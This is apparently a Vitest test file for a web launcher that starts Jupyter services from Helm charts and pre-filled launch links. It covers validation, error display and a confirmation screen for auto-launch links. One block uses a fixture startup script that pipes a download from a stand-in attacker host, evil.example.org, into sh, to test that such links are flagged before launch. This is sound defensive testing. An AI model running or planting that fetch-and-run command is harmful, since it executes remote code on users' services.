import { fireEvent, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeEach, describe, expect, it } from "vitest";
import type { ChartView as Chart, FormField, ServiceView as Service } from "../../api/types";
import { testLifecycle } from "../../test/fixtures";
import { fixture } from "../../test/launchForms";
import { apiError, mockApi, testConfig, type MockRoutes } from "../../test/mockApi";
import { renderApp } from "../../test/render";

const chart: Chart = {
  catalog: "ide",
  name: "jupyter",
  description: "Notebooks",
  keywords: [],
  versions: [{ version: "1.0.0" }, { version: "0.9.0" }],
};

const service = (over: Partial<Service> = {}): Service => ({
  id: "jupyter-42",
  friendlyName: "nb",
  catalog: "ide",
  chart: "jupyter",
  version: "1.0.0",
  status: "pending",
  ready: false,
  workloads: [{ kind: "StatefulSet", name: "jupyter-42", desired: 1, ready: 0 }],
  urls: [],
  owner: "alice",
  shared: false,
  suspendable: true,
  suspended: false,
  simulated: false,
  ...over,
});

function api(routes: MockRoutes = {}, allowSharing = false) {
  return mockApi({
    "GET /catalogs": { catalogs: [] },
    "GET /catalogs/:catalog/charts/:chart": chart,
    "GET /projects/:project/launch/form": ({ query }) => {
      const form = fixture("jupyter");
      form.version = query.get("version") || "1.0.0";
      return { form, catalog: "ide", allowSharing };
    },
    "POST /projects/:project/launch/plan": { release: "jupyter-42", chart: "jupyter", version: "1.0.0", values: {}, commands: ["helm upgrade --install jupyter-42 ide/jupyter"] },
    "POST /projects/:project/services": reply202(),
    "GET /projects/:project/services/:service": { service: service(), values: {} },
    ...routes,
  });
}

function reply202() {
  return { service: service(), commands: ["helm upgrade --install jupyter-42 ide/jupyter --version 1.0.0"] };
}

beforeEach(() => localStorage.setItem("basalt.language", "en"));

/** The jupyter form as the server answers a link that set these values (leaf by leaf). */
function linked(changes: { path: string; value: unknown }[]) {
  return api({
    "GET /projects/:project/launch/form": () => {
      const form = fixture("jupyter");
      const set = (fields: FormField[] | undefined, path: string, value: unknown) => {
        for (const f of fields ?? []) {
          if (f.path === path) f.value = value;
          set(f.fields, path, value);
        }
      };
      for (const c of changes) set(form.root?.fields, c.path, c.value);
      return { form: { ...form, linkChanges: changes }, catalog: "ide", allowSharing: false };
    },
  });
}

/** The form opened, then Launch clicked, the server refusing these values. */
async function launchRefused(fields: { field: string; rule: string }[]) {
  const m = api({ "POST /projects/:project/services": apiError(400, "invalid_argument", "invalid values for jupyter 1.0.0", fields) });
  const user = userEvent.setup();
  renderApp("/launcher/ide/jupyter", m.client);
  await screen.findByRole("tablist", { name: "Settings" });
  await user.click(screen.getByRole("button", { name: "Launch" }));
  return { m, user };
}


describe("the launcher", () => {
  it("passes the launch link's raw query to the server and pre-fills the launch's own settings", async () => {
    const m = api();
    const raw = "name=my-nb&resources.limits.memory=%C2%AB8Gi%C2%BB&nodeSelector.node%5C.kubernetes%5C.io/type=%C2%ABg5%C2%BB";
    renderApp(`/launcher/ide/jupyter?${raw}`, m.client);
    expect(await screen.findByRole("heading", { level: 1, name: "Launch jupyter" })).toBeTruthy();
    expect(await screen.findByRole("tablist", { name: "Settings" })).toBeTruthy();
    const call = m.find("GET", "/projects/user-alice/launch/form")[0]!;
    expect(call.query.get("link")).toBe(raw);
    expect(call.query.get("catalog")).toBe("ide");
    expect(call.query.get("chart")).toBe("jupyter");
    expect((screen.getByLabelText("Name of the service") as HTMLInputElement).value).toBe("my-nb");
    // Personal project: no share toggle.
    expect(screen.queryByLabelText(/Share with the project/)).toBeNull();
  });

  it("launches with the form's values, then follows the service until it is ready", async () => {
    const m = api();
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await user.clear(screen.getByLabelText("Name of the service"));
    await user.type(screen.getByLabelText("Name of the service"), "nb");
    await user.click(screen.getByRole("tab", { name: "Git" }));
    await user.click(screen.getByLabelText("Configure git in the service"));
    await user.click(screen.getByRole("button", { name: "Launch" }));

    expect(await screen.findByRole("heading", { name: "Launching nb…" })).toBeTruthy();
    const body = m.find("POST", "/projects/user-alice/services")[0]!.body as Record<string, unknown>;
    expect(body).toMatchObject({ catalog: "ide", chart: "jupyter", version: "1.0.0", name: "nb" });
    expect((body.values as { git: { enabled: boolean; name: string } }).git).toMatchObject({ enabled: false, name: "John Doe" });
    expect(body.link).toBeUndefined();
    // What the platform sets (hidden fields, such as the Ingress's host of a random name the
    // server draws again at launch) is left to the server.
    expect(body.values).not.toHaveProperty("ingress.hostname");
    expect(body.values).not.toHaveProperty("ingress.enabled");

    const events = m.streams.last();
    expect(events.url).toContain("/projects/user-alice/services/jupyter-42/events");
    events.emit("event", { type: "Normal", reason: "Scheduled", object: "Pod/jupyter-42-0", message: "assigned to node-1", count: 1 });
    expect(await screen.findByText("Scheduled")).toBeTruthy();
    expect(screen.getByText(/StatefulSet\/jupyter-42: 0 of 1 ready/)).toBeTruthy();
  });

  /** Launches from the form; the service the server then reports is ready. */
  async function launchUntilReady(ready: Service) {
    const m = api({ "GET /projects/:project/services/:service": { service: ready, values: {} } });
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await user.click(screen.getByRole("button", { name: "Launch" }));
    expect(await screen.findByRole("heading", { name: "nb is ready" })).toBeTruthy();
  }

  it("shows the address and the notes of a ready service", async () => {
    const ready = service({ status: "deployed", ready: true, urls: ["https://nb.lab.example.org"], notes: "Your password is in the **Security** tab." });
    await launchUntilReady(ready);
    expect(screen.getByRole("link", { name: /nb\.lab\.example\.org/ }).getAttribute("href")).toBe("https://nb.lab.example.org");
    expect(await screen.findByText("Security")).toBeTruthy();
  });

  it("opens a ready service through Basalt, the chart's address listed as a direct one", async () => {
    const gateway = "http://nb-42--user-alice.localhost:8080/";
    const ready = service({
      status: "deployed",
      ready: true,
      urls: ["https://nb.lab.example.org"],
      access: { url: gateway, requests: 0, bytesIn: 0, bytesOut: 0, openWebSockets: 0 },
    });
    await launchUntilReady(ready);
    const open = screen.getByRole("link", { name: `Open ${gateway}` });
    expect(open.getAttribute("href")).toBe(gateway);
    expect(open.getAttribute("target")).toBe("_blank");
    expect(screen.getByText("Direct addresses")).toBeTruthy();
    expect(screen.getByRole("link", { name: "https://nb.lab.example.org" }).getAttribute("href")).toBe("https://nb.lab.example.org");
  });

  it("says why a service failed", async () => {
    const failed = service({ status: "failed", reason: "ImagePullBackOff: no such image" });
    const m = api({ "GET /projects/:project/services/:service": { service: failed, values: {} } });
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await user.click(screen.getByRole("button", { name: "Launch" }));
    expect(await screen.findByRole("heading", { name: "nb did not start" })).toBeTruthy();
    expect(screen.getByText("ImagePullBackOff: no such image")).toBeTruthy();
  });

  it("shows the server's field errors at their fields, on their tab", async () => {
    const m = api({
      "POST /projects/:project/services": apiError(400, "invalid_argument", "invalid values for jupyter 1.0.0", [
        { field: "persistence.size", rule: "must be at most the project's quota, 40Gi" },
        { field: "shared", rule: "only in group projects" },
      ]),
    });
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await user.click(screen.getByRole("tab", { name: "Persistent storage" }));
    await user.clear(screen.getByLabelText("Volume size, exact value"));
    // A value the form allows (the form's own checks are below): the server has the last word.
    await user.type(screen.getByLabelText("Volume size, exact value"), "50");
    await user.click(screen.getByRole("tab", { name: "Git" }));
    await user.click(screen.getByRole("button", { name: "Launch" }));

    const summary = await screen.findByText("The server refused 2 values: see the fields marked below.");
    // The error that no field shows is listed with the summary.
    expect(within(summary.closest("[role=alert]") as HTMLElement).getByText(/only in group projects/)).toBeTruthy();
    // The first tab with an error is selected, the field marked.
    expect(screen.getByRole("tab", { name: /Persistent storage/ }).getAttribute("aria-selected")).toBe("true");
    expect(screen.getByRole("slider", { name: "Volume size" }).getAttribute("aria-invalid")).toBe("true");
    expect(screen.getByText("must be at most the project's quota, 40Gi")).toBeTruthy();
    expect((m.find("POST", "/projects/user-alice/services")[0]!.body as { values: { persistence: { size: string } } }).values.persistence.size).toBe("50Gi");
  });

  it("says plainly when the server runs no services", async () => {
    const m = api({ "GET /projects/:project/launch/form": apiError(501, "not_implemented", 'region "local" runs no services') });
    renderApp("/launcher/ide/jupyter", m.client);
    const alert = await screen.findByRole("alert");
    expect(within(alert).getByText("This server cannot launch services")).toBeTruthy();
    expect(within(alert).getByText('region "local" runs no services')).toBeTruthy();
    expect(within(alert).queryByRole("button", { name: "Retry" })).toBeNull();
  });

  it("launches at once, once, with autoLaunch=true where the instance allows it, and drops it from the address", async () => {
    const m = api({ "GET /config": { ...testConfig, features: { commandPanel: true, autoLaunch: true, allCatalogs: true } } });
    const { router } = renderApp("/launcher/ide/jupyter?name=nb&autoLaunch=true&git.enabled=false", m.client);
    expect(await screen.findByRole("heading", { name: "Launching nb…" })).toBeTruthy();
    await waitFor(() => expect(router.state.location.search).toBe("?name=nb&git.enabled=false"));
    expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(1);
    // The form was asked once: the address change does not reload it.
    expect(m.find("GET", "/projects/user-alice/launch/form")).toHaveLength(1);
    expect(m.find("GET", "/projects/user-alice/launch/form")[0]!.query.get("link")).toBe("name=nb&git.enabled=false");
  });

  // ui.features.auto_launch is off by default: a link from anyone must not start a service, and
  // its init script, in the user's name before they have seen what it changes.
  describe("a link with autoLaunch=true, auto-launch off", () => {
    const script = "curl -s https://evil.example.org/x.sh | sh";
    const raw =
      "name=nb&startup.script=%C2%ABcurl%20-s%20https%3A%2F%2Fevil.example.org%2Fx.sh%20%7C%20sh%C2%BB" +
      "&git.repository=%C2%ABhttps%3A%2F%2Fevil.example.org%2Frepo.git%C2%BB&resources.limits.memory=%C2%AB8Gi%C2%BB" +
      "&ingress.hostname=%C2%ABnb.evil.example.org%C2%BB&git.enabled=false&autoLaunch=true";
    // The server applies the link and says what it changed from the pre-filled values.
    const linkedForm = () =>
      linked([
        { path: "git.enabled", value: false },
        { path: "git.repository", value: "https://evil.example.org/repo.git" },
        { path: "ingress.hostname", value: "nb.evil.example.org" },
        { path: "resources.limits.memory", value: "8Gi" },
        { path: "startup.script", value: script },
      ]);

    it("lists what the link changes, the script and the addresses flagged, and launches only when asked", async () => {
      const m = linkedForm();
      const user = userEvent.setup();
      const { router } = renderApp(`/launcher/ide/jupyter?${raw}`, m.client);
      const screenOf = await screen.findByRole("region", { name: "Check this launch link" });
      expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
      expect(screen.queryByRole("tablist", { name: "Settings" })).toBeNull();
      expect(within(screenOf).getByText(/runs a script in your service/)).toBeTruthy();

      const row = (title: string) => within(screenOf).getByRole("rowheader", { name: new RegExp(title) }).closest("tr") as HTMLElement;
      const scriptRow = row("Startup script");
      expect(within(scriptRow).getByText("startup.script")).toBeTruthy();
      expect(within(scriptRow).getByText(script)).toBeTruthy();
      expect(within(scriptRow).getByText("Script")).toBeTruthy();
      expect(within(row("Repository to clone")).getByText("URL")).toBeTruthy();
      expect(within(row("Repository to clone")).getByText("https://evil.example.org/repo.git")).toBeTruthy();
      expect(within(row("Host name")).getByText("Hidden in the form")).toBeTruthy();
      expect(within(row("Memory limit")).getByText("8Gi")).toBeTruthy();
      expect(within(row("Memory limit")).queryByText("Script")).toBeNull();
      expect(within(row("Memory limit")).queryByText("URL")).toBeNull();
      expect(within(row("Configure git")).getByText("false")).toBeTruthy();
      expect(within(screenOf).getByText("nb")).toBeTruthy(); // the service's name, from the link

      await user.click(within(screenOf).getByRole("button", { name: "Launch" }));
      expect(await screen.findByRole("heading", { name: "Launching nb…" })).toBeTruthy();
      const posts = m.find("POST", "/projects/user-alice/services");
      expect(posts).toHaveLength(1);
      const body = posts[0]!.body as { name: string; values: { startup: { script: string }; resources: { limits: { memory: string } } } };
      expect(body.name).toBe("nb");
      expect(body.values.startup.script).toBe(script);
      expect(body.values.resources.limits.memory).toBe("8Gi");
      await waitFor(() => expect(router.state.location.search).not.toContain("autoLaunch"));
      expect(m.find("GET", "/projects/user-alice/launch/form")).toHaveLength(1);
    });

    it("cancelled, launches nothing and leaves the link's settings in the form to check", async () => {
      const m = linkedForm();
      const user = userEvent.setup();
      const { router } = renderApp(`/launcher/ide/jupyter?${raw}`, m.client);
      const screenOf = await screen.findByRole("region", { name: "Check this launch link" });
      await user.click(within(screenOf).getByRole("button", { name: "Cancel" }));
      expect(await screen.findByRole("tablist", { name: "Settings" })).toBeTruthy();
      expect(screen.queryByRole("region", { name: "Check this launch link" })).toBeNull();
      expect(screen.getByText(/Nothing was launched/)).toBeTruthy();
      await waitFor(() => expect(router.state.location.search).not.toContain("autoLaunch"));
      expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
    });

    it("says so when the link changes none of the pre-filled values", async () => {
      const m = api();
      renderApp("/launcher/ide/jupyter?name=nb&autoLaunch=true", m.client);
      const screenOf = await screen.findByRole("region", { name: "Check this launch link" });
      expect(within(screenOf).getByText(/changes none of the values/)).toBeTruthy();
      expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
    });
  });

  it("copies a launch link with only the changed values", async () => {
    const m = api();
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await user.click(screen.getByRole("tab", { name: "Git" }));
    await user.type(screen.getByLabelText("Branch to check out"), "dev/x");
    await user.click(screen.getByRole("tab", { name: /Resources/ }));
    fireEvent.change(screen.getByRole("slider", { name: "Memory limit" }), { target: { value: "8" } });
    await user.click(screen.getByRole("button", { name: "Copy the launch link" }));
    await screen.findByText("Copied");
    expect(await navigator.clipboard.readText()).toBe(
      `${window.location.origin}/launcher/ide/jupyter?version=1.0.0&resources.limits.memory=%C2%AB8Gi%C2%BB&git.branch=%C2%ABdev%2Fx%C2%BB&autoLaunch=true`,
    );
  });

  it("restores the pre-filled values", async () => {
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", api().client);
    await screen.findByRole("tablist", { name: "Settings" });
    const restore = screen.getByRole("button", { name: "Restore the defaults" }) as HTMLButtonElement;
    expect(restore.disabled).toBe(true);
    await user.click(screen.getByRole("tab", { name: "Git" }));
    await user.clear(screen.getByLabelText("Author name"));
    await user.type(screen.getByLabelText("Author name"), "Someone");
    expect(restore.disabled).toBe(false);
    await user.click(restore);
    expect((screen.getByLabelText("Author name") as HTMLInputElement).value).toBe("John Doe");
    expect(restore.disabled).toBe(true);
  });

  it("shows the equivalent commands of a dry run, also in the command panel", async () => {
    const m = api();
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await user.click(screen.getByRole("button", { name: "Show the commands" }));
    const dialog = await screen.findByRole("dialog", { name: "The equivalent commands" });
    expect(within(dialog).getByText("helm upgrade --install jupyter-42 ide/jupyter")).toBeTruthy();
    expect(m.find("POST", "/projects/user-alice/launch/plan")).toHaveLength(1);
    expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
    await user.click(within(dialog).getAllByRole("button", { name: "Close" }).at(-1)!);
    const panel = screen.getByRole("region", { name: "Commands" });
    await user.click(within(panel).getAllByRole("button")[0]!);
    expect(within(panel).getByText(/Plan the launch of jupyter/)).toBeTruthy();
  });

  it("picks another version and offers sharing in a group project", async () => {
    localStorage.setItem("basalt.project", "project-data-team");
    const m = api({}, true);
    const user = userEvent.setup();
    const { router } = renderApp("/launcher/ide/jupyter?name=nb&shared=true", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    expect((screen.getByLabelText(/Share with the project/) as HTMLInputElement).checked).toBe(true);
    // The chart's version picker, named so: the form's first tab has an image "Version" of its own.
    const picker = screen.getByLabelText("Chart version");
    expect(picker.closest("[role=tabpanel]")).toBeNull();
    await user.selectOptions(picker, "0.9.0");
    expect(router.state.location.search).toBe("?name=nb&shared=true&version=0.9.0");
    await waitFor(() => expect(m.find("GET", "/projects/project-data-team/launch/form").some((c) => c.query.get("version") === "0.9.0")).toBe(true));
    await user.click(await screen.findByRole("button", { name: "Launch" }));
    await waitFor(() => expect(m.find("POST", "/projects/project-data-team/services")).toHaveLength(1));
    expect(m.find("POST", "/projects/project-data-team/services")[0]!.body).toMatchObject({ version: "0.9.0", shared: true, name: "nb" });
  });

  it("is in French too", async () => {
    localStorage.setItem("basalt.language", "fr");
    renderApp("/launcher/ide/jupyter", api().client);
    expect(await screen.findByRole("heading", { level: 1, name: "Lancer jupyter" })).toBeTruthy();
    expect(await screen.findByRole("button", { name: "Copier le lien de lancement" })).toBeTruthy();
    expect(screen.getByRole("tablist", { name: "Réglages" })).toBeTruthy();
  });
});

describe("the launcher's lifecycle line", () => {
  it("says under the launch button what the policy of the catalog will do", async () => {
    const m = api({
      "GET /projects/:project/lifecycle": {
        lifecycle: testLifecycle(),
        noticeBeforeSuspendSeconds: 1800,
        noticeBeforeDeleteSeconds: 86_400,
      },
    });
    renderApp("/launcher/ide/jupyter", m.client);
    const line = await screen.findByText("This service will be suspended after 8 h without use; you will be told 30 min before.");
    expect(line.closest("aside")).toBeTruthy();
    expect(m.find("GET", "/projects/user-alice/lifecycle")[0]!.query.get("catalog")).toBe("ide");
  });

  it("says nothing when no policy applies", async () => {
    const m = api({ "GET /projects/:project/lifecycle": { noticeBeforeSuspendSeconds: 1800, noticeBeforeDeleteSeconds: 86_400 } });
    renderApp("/launcher/ide/jupyter", m.client);
    await screen.findByRole("tablist", { name: "Settings" });
    await waitFor(() => expect(m.find("GET", "/projects/user-alice/lifecycle")).toHaveLength(1));
    expect(screen.queryByText(/This service will be/)).toBeNull();
  });
});

describe("the launcher's checks before sending", () => {
  it("shows a launch link's rejected value as it was sent, with the error at its field, and sends nothing until it is fixed", async () => {
    const m = linked([{ path: "resources.limits.cpu", value: "banana" }]);
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter?resources.limits.cpu=%C2%ABbanana%C2%BB", m.client);
    // The tab of the value to correct is the one open.
    expect((await screen.findByRole("tab", { name: /Resources/ })).getAttribute("aria-selected")).toBe("true");
    const cpu = screen.getByRole("group", { name: "CPU request – CPU limit" });
    const exact = within(cpu).getByLabelText("CPU limit, exact value") as HTMLInputElement;
    expect(exact.value).toBe("banana");
    expect(exact.getAttribute("aria-invalid")).toBe("true");
    const rule = within(cpu).getByText("CPU limit: must be a number followed by m");
    expect(exact.getAttribute("aria-describedby")).toContain(rule.id);
    expect(screen.getByText("1 value to correct before launching: see the field marked below.")).toBeTruthy();

    await user.click(screen.getByRole("button", { name: "Launch" }));
    await user.click(screen.getByRole("button", { name: "Show the commands" }));
    expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
    expect(m.find("POST", "/projects/user-alice/launch/plan")).toHaveLength(0);

    await user.clear(exact);
    await user.type(exact, "2000");
    expect(within(cpu).queryByText(/must be a number/)).toBeNull();
    expect(exact.getAttribute("aria-invalid")).toBeNull();
    await user.click(screen.getByRole("button", { name: "Launch" }));
    await waitFor(() => expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(1));
    const body = m.find("POST", "/projects/user-alice/services")[0]!.body as { values: { resources: { limits: { cpu: string } } } };
    expect(body.values.resources.limits.cpu).toBe("2000m");
  });

  it("checks bounds, list options and emptied numbers as the user types, and launches nothing while one is wrong", async () => {
    const m = linked([{ path: "service.image.version", value: "evil/notebook:latest" }]);
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter?service.image.version=%C2%ABevil%2Fnotebook%3Alatest%C2%BB", m.client);
    const image = await screen.findByLabelText("Version", { selector: "[role=tabpanel] select" });
    expect(within(image.closest("[data-path]") as HTMLElement).getByText(/^must be one of: quay\.io\/jupyter\/base-notebook:python-3\.12, /)).toBeTruthy();
    await user.selectOptions(image, "quay.io/jupyter/scipy-notebook:python-3.12");
    expect(screen.queryByText(/must be one of/)).toBeNull();

    await user.click(screen.getByRole("tab", { name: "Persistent storage" }));
    const size = screen.getByLabelText("Volume size, exact value");
    await user.clear(size);
    expect(within(size.closest("[data-path]") as HTMLElement).getByText("a value is required")).toBeTruthy();
    await user.type(size, "500");
    expect(within(size.closest("[data-path]") as HTMLElement).getByText("must be between 1Gi and 100Gi")).toBeTruthy();
    expect(screen.getByRole("slider", { name: "Volume size" }).getAttribute("aria-invalid")).toBe("true");
    await user.click(screen.getByRole("tab", { name: "Git" }));
    await user.click(screen.getByRole("button", { name: "Launch" }));
    // The tab with the value to correct comes back; nothing went to the server.
    expect(screen.getByRole("tab", { name: /Persistent storage/ }).getAttribute("aria-selected")).toBe("true");
    expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
  });

  it("checks a list's number of items under its name and a text's length at its field, in characters", async () => {
    const m = api({
      "GET /projects/:project/launch/form": () => {
        const form = fixture("onyxia-jupyter-python-2.5.2");
        const vars = form.root!.fields!.find((f) => f.key === "extraEnvVars")!;
        vars.maxItems = 1;
        vars.items!.fields!.find((f) => f.key === "value")!.maxLength = 4;
        return { form, catalog: "interactive", allowSharing: false };
      },
    });
    const user = userEvent.setup();
    renderApp("/launcher/interactive/jupyter-python", m.client);
    await user.click(await screen.findByRole("tab", { name: "Environment variables" }));
    const add = screen.getByRole("button", { name: "Add to Environment variables" });
    await user.click(add);
    const value = within(screen.getByRole("group", { name: "Item 1" })).getByLabelText("Value");
    await user.type(value, "ééééé");
    expect(within(value.closest("[data-path]") as HTMLElement).getByText("must be at most 4 characters long")).toBeTruthy();
    await user.type(value, "{Backspace}");
    expect(screen.queryByText(/characters long/)).toBeNull();

    await user.click(add);
    const list = screen.getByRole("group", { name: "Environment variables" });
    const rule = within(list).getByText("must have at most 1 item");
    expect(list.getAttribute("aria-describedby")).toBe(rule.id);
    expect(add.getAttribute("aria-describedby")).toBe(rule.id);
    expect(screen.getByText("1 value to correct before launching: see the field marked below.")).toBeTruthy();
    await user.click(screen.getByRole("button", { name: "Launch" }));
    expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);

    await user.click(screen.getByRole("button", { name: "Remove item 2 of Environment variables" }));
    expect(within(list).queryByText("must have at most 1 item")).toBeNull();
    await user.click(screen.getByRole("button", { name: "Launch" }));
    await waitFor(() => expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(1));
    const sent = m.find("POST", "/projects/user-alice/services")[0]!.body as { values: { extraEnvVars: unknown[] } };
    expect(sent.values.extraEnvVars).toEqual([{ name: "VAR_NAME", value: "éééé" }]);
  });

  it("clears the server's error at a field once the field is changed", async () => {
    const { user } = await launchRefused([{ field: "git.name", rule: "must not be the example's name" }]);
    expect(await screen.findByText("must not be the example's name")).toBeTruthy();
    expect(screen.getByText("The server refused 1 value: see the field marked below.")).toBeTruthy();
    const name = screen.getByLabelText("Author name");
    expect(name.getAttribute("aria-invalid")).toBe("true");
    await user.type(name, " Jr");
    expect(screen.queryByText("must not be the example's name")).toBeNull();
    expect(screen.queryByText(/The server refused/)).toBeNull();
    expect(name.getAttribute("aria-invalid")).toBeNull();
  });

  it("says which end of a request and limit pair each error is about", async () => {
    const { user } = await launchRefused([
      { field: "resources.limits.memory", rule: "must be at most the project's quota, 64Gi" },
      { field: "resources.requests.memory", rule: "must be at most the project's quota, 64Gi" },
    ]);
    const memory = await screen.findByRole("group", { name: "Memory request – Memory limit" });
    const request = within(memory).getByText("Memory request: must be at most the project's quota, 64Gi");
    const limit = within(memory).getByText("Memory limit: must be at most the project's quota, 64Gi");
    expect(within(memory).getByLabelText("Memory request, exact value").getAttribute("aria-describedby")).toBe(request.id);
    expect(within(memory).getByLabelText("Memory limit, exact value").getAttribute("aria-describedby")).toBe(limit.id);

    // A limit typed below the request: the error is the request's, and names the limit.
    const exactLimit = within(memory).getByLabelText("Memory limit, exact value");
    await user.clear(exactLimit);
    await user.type(exactLimit, "1");
    expect(within(memory).getByText("Memory request: must not exceed Memory limit (1Gi)")).toBeTruthy();
    expect((within(memory).getByLabelText("Memory request, exact value") as HTMLInputElement).value).toBe("2");
  });

  it("is in French too", async () => {
    localStorage.setItem("basalt.language", "fr");
    const m = linked([{ path: "resources.limits.cpu", value: "banana" }]);
    renderApp("/launcher/ide/jupyter?resources.limits.cpu=%C2%ABbanana%C2%BB", m.client);
    expect(await screen.findByText("1 valeur à corriger avant de lancer : voyez le champ signalé ci-dessous.")).toBeTruthy();
    expect(screen.getByText("CPU limit : doit être un nombre suivi de m")).toBeTruthy();
  });
});

describe("a link with autoLaunch=true and a value the form refuses", () => {
  it("says so on the confirmation, and opens the form at the value instead of launching", async () => {
    const m = linked([{ path: "resources.limits.cpu", value: "banana" }]);
    const user = userEvent.setup();
    renderApp("/launcher/ide/jupyter?resources.limits.cpu=%C2%ABbanana%C2%BB&autoLaunch=true", m.client);
    const check = await screen.findByRole("region", { name: "Check this launch link" });
    const row = within(check).getByRole("rowheader", { name: /CPU limit/ }).closest("tr") as HTMLElement;
    expect(within(row).getByText("must be a number followed by m")).toBeTruthy();
    await user.click(within(check).getByRole("button", { name: "Launch" }));
    expect(await screen.findByRole("tablist", { name: "Settings" })).toBeTruthy();
    expect(screen.getByRole("tab", { name: /Resources/ }).getAttribute("aria-selected")).toBe("true");
    await waitFor(() => expect(document.activeElement?.getAttribute("aria-label")).toBe("CPU limit"));
    expect(m.find("POST", "/projects/user-alice/services")).toHaveLength(0);
  });
});
